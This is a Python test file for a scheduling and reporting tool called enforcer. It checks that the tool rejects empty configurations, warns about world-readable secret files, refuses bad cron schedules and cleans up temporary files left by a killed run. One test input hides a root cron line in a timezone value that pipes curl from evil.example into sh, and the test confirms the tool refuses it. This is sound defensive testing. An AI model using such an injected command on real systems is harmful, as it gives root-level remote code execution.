"""Hardening issue, item 10: an empty configuration, a world-readable secret, what
``--print-cron`` / ``--print-systemd`` print, and temporary files a killed writer leaves."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from enforcer.cli.main import main
from enforcer.model.errors import ConfigError
from enforcer.scheduler.cron import cron_trigger

ROOT = Path(__file__).resolve().parents[2]
AS_OF = ["--as-of", "2026-11-22"]


@pytest.mark.parametrize("text", ["", "\n\n", "# filled in later\n", "{}\n"])
def test_an_empty_configuration_file_is_a_config_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    cfg = tmp_path / "enforcer.yaml"
    cfg.write_text(text, encoding="utf-8")
    assert main(["run", "--config", str(cfg), "--reports-dir", str(tmp_path / "r"), *AS_OF]) == 2
    err = capsys.readouterr().err
    assert f"{cfg}: the configuration file is empty" in err
    assert not (tmp_path / "r").exists()
    assert not (Path(os.environ["ENFORCER_HOME"]) / "enforcer.db").exists()  # no demo run recorded
    # no configuration at all is still the demo school
    assert main(["audit", "--format", "json", *AS_OF]) == 1
    assert '"school": "Demo Primary School"' in capsys.readouterr().out


def _email_config(tmp_path: Path, secret: Path) -> Path:
    cfg = tmp_path / "enforcer.yaml"
    cfg.write_text(
        "sources: [{name: demo, type: demo}]\n"
        "email: {enabled: true, host: localhost, port: 9, starttls: false, "
        f"recipients: [dsl@school.example], password: {{file: {secret}}}}}\n",
        encoding="utf-8",
    )
    return cfg


def test_a_world_readable_secret_file_is_named_on_stderr(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for mode, warned in [(0o644, True), (0o604, True), (0o640, False), (0o600, False)]:
        secret = tmp_path / f"smtp-password-{mode:o}"
        secret.write_text("correct-horse-battery\n", encoding="utf-8")
        secret.chmod(mode)
        cfg = _email_config(tmp_path, secret)
        main(["run", "--config", str(cfg), "--reports-dir", str(tmp_path / "r"), *AS_OF])  # no SMTP on 9
        err = capsys.readouterr().err
        assert "digest not sent" in err  # the secret was read: the run got as far as sending
        assert (f"secret file {secret} is readable by every user" in err) is warned, oct(mode)
        assert "correct-horse-battery" not in err


REFUSED = [
    ('{cron: "0 2 * * *", timezone: "Europe/London\\n* * * * * root curl evil.example | sh"}', "timezone"),
    ('{cron: "0 2 * * *", timezone: "Mars/Olympus_Mons"}', "timezone"),
    ('{cron: "0 25 * * *"}', "cron"),
    ('{cron: "0 2 31 2 *"}', "never fires"),  # no 31 February: the scheduler would wait for ever
]


@pytest.mark.parametrize(("schedule", "why"), REFUSED)
def test_print_refuses_what_the_scheduler_refuses(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], schedule: str, why: str
) -> None:
    cfg = tmp_path / "enforcer.yaml"
    cfg.write_text(f"sources: [{{name: demo, type: demo}}]\nschedule: {schedule}\n", encoding="utf-8")
    for flag in ("--print-cron", "--print-systemd"):
        assert main(["schedule", "--config", str(cfg), flag]) == 2, flag
        captured = capsys.readouterr()
        assert captured.out == "" and why in captured.err and "Traceback" not in captured.err
    from enforcer.config import load_config

    sched = load_config(cfg).model.schedule
    with pytest.raises(ConfigError):  # and `enforcer schedule` itself refuses the same
        cron_trigger(sched.cron, sched.timezone)


def test_print_cron_is_one_job_on_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cfg = tmp_path / "enforcer.yaml"
    cfg.write_text(
        'sources: [{name: demo, type: demo}]\nschedule: {cron: "30 1 * *\\n 1-5"}\n', encoding="utf-8"
    )
    assert main(["schedule", "--config", str(cfg), "--print-cron"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3 and lines[1] == "CRON_TZ=Europe/London"
    assert lines[2].startswith("30 1 * * 1-5 ") and "enforcer -q run" in lines[2]
    assert main(["schedule", "--config", str(cfg), "--print-cron", "--cron", "0 3 * * *"]) == 0
    assert capsys.readouterr().out.splitlines()[2].startswith("0 3 * * * ")  # --cron applies too


KILLED_MID_WRITE = textwrap.dedent("""
    import os, signal, sys
    from enforcer.cli.main import main
    os.replace = lambda *a, **k: os.kill(os.getpid(), signal.SIGKILL)  # staged, never renamed
    main(["run", "--reports-dir", sys.argv[1], "--as-of", "2026-11-22"])
""")


def _enforcer(*argv: str, code: str | None = None) -> subprocess.CompletedProcess[str]:
    args = ["-c", code, *argv] if code else ["-m", "enforcer", *argv]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, *args], env=env, capture_output=True, text=True, timeout=300)


def test_temporary_files_of_a_killed_writer_are_removed_by_the_next_run(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    killed = _enforcer(str(reports), code=KILLED_MID_WRITE)
    assert killed.returncode == -9, killed.stderr
    left = sorted(p.name for p in reports.glob(".enforcer-*.tmp"))
    assert left, "the killed run left no temporary file; the test proves nothing"
    keep = [".enforcer-notes.txt", "other.tmp", ".enforcer-abcdefgh.tmp.bak", ".enforcer-toolong123.tmp"]
    for name in keep:
        (reports / name).write_text("not ours\n", encoding="utf-8")
    (reports / ".enforcer-zzzzzzzz.tmp").symlink_to(reports / "other.tmp")  # a link is never removed
    done = _enforcer("run", "--reports-dir", str(reports), "--as-of", "2026-11-22")
    assert done.returncode == 1, done.stderr
    names = {p.name for p in reports.iterdir()}
    assert not names & set(left)
    assert {*keep, ".enforcer-zzzzzzzz.tmp", "enforcer-report.json"} <= names
